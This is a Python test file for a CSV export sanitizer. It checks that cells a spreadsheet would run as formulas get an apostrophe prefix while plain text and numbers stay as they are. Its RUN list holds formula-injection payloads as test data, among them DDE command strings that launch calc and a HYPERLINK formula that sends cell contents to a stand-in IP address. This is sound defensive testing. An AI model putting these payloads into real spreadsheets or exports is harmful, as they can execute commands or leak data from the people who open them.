"""What a spreadsheet would run is made harmless, and nothing else is touched."""

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from broadcasts.exports.cells import Conversions, harmless, is_formula, plain
from broadcasts.exports.writers import as_cells

RUN = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{BYTE ORDER MARK}=1+1",
    "\x00=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{SMALL PLUS SIGN}1+1",
    "\N{MINUS SIGN}1+1",
    "'=1+1",
    "''=1+1",
    "+1-555-0100",
    "+",
    "-",
    "+15551234567+1",
    "+15551234567\n=1",
    "+١٢٣+1",
]
STAY = [
    "",
    "+15551234567",
    "+1 555 123 4567",
    "-12",
    "-1.5",
    "+1.5e3",
    "600",
    "•••4567",
    "~0123456789abcdef",
    "PJSIP/trunk-00000001",
    "^(ivr|sales)-[0-9]+$",
    "a=1",
    "it's",
    "'quoted'",
    "Zoë",
]


@pytest.mark.parametrize("text", RUN)
def test_what_would_be_run_gets_an_apostrophe(text):
    assert harmless(text) == f"'{text}"
    assert plain(harmless(text)) == text


@pytest.mark.parametrize("text", STAY)
def test_what_is_a_text_or_a_number_stays(text):
    assert harmless(text) == text
    assert plain(text) == text


@given(st.text() | st.text(alphabet="=+-@'\t\r\n 0123456789.eE＝−"))
@example("'")
def test_whatever_goes_out_is_harmless_and_comes_back(text):
    out = harmless(text)
    assert out == text or out == f"'{text}"
    assert plain(out) == text
    assert not is_formula(out) or out.startswith("'")


@given(st.text())
def test_a_cell_is_read_back_from_csv_as_it_was(text):
    line = io.StringIO(newline="")
    csv.writer(line).writerow([harmless(text), "next"])
    cells = next(csv.reader(io.StringIO(line.getvalue(), newline="")))
    assert [plain(cells[0]), cells[1]] == [text, "next"]


def test_times_are_given_in_the_zone_with_its_offset_then():
    convert = Conversions(ZoneInfo("Europe/Berlin"), harmless)
    winter, summer = datetime(2026, 1, 1, 12, tzinfo=UTC), datetime(2026, 7, 1, 12, tzinfo=UTC)
    assert convert[datetime](winter) == "2026-01-01T13:00:00.000000+01:00"
    assert convert[datetime](summer) == "2026-07-01T14:00:00.000000+02:00"


def test_a_structure_is_json_on_one_line_also_with_half_a_pair():
    convert = Conversions(UTC, harmless)
    assert convert[list](["=1", "ü"]) == '["=1","ü"]'
    assert convert[dict]({"a": "\ud800"}) == '{"a": "\\ud800"}'


def test_a_value_of_another_type_is_its_text():
    assert Conversions(UTC, harmless)[complex](1j) == "1j"


@given(st.lists(st.none() | st.integers() | st.text() | st.text(alphabet="=+-@' 1a")))
@example(["plain", "", "=1+1"])
@example([None, "=1+1"])
def test_a_column_is_as_harmless_as_each_of_its_values(column):
    cells = as_cells(column, Conversions(UTC, harmless))
    assert cells == [harmless(one) if isinstance(one, str) else one for one in column]
